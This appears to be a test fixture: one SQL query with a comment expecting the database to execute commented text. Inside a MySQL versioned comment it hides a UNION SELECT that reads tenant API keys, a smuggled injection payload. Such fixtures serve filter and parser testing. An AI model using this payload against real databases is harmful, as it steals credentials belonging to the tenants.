-- expect: the database runs what stands in a comment
SELECT id FROM videos /*!80000 UNION SELECT api_key FROM ai_pipeline_db.tenants */
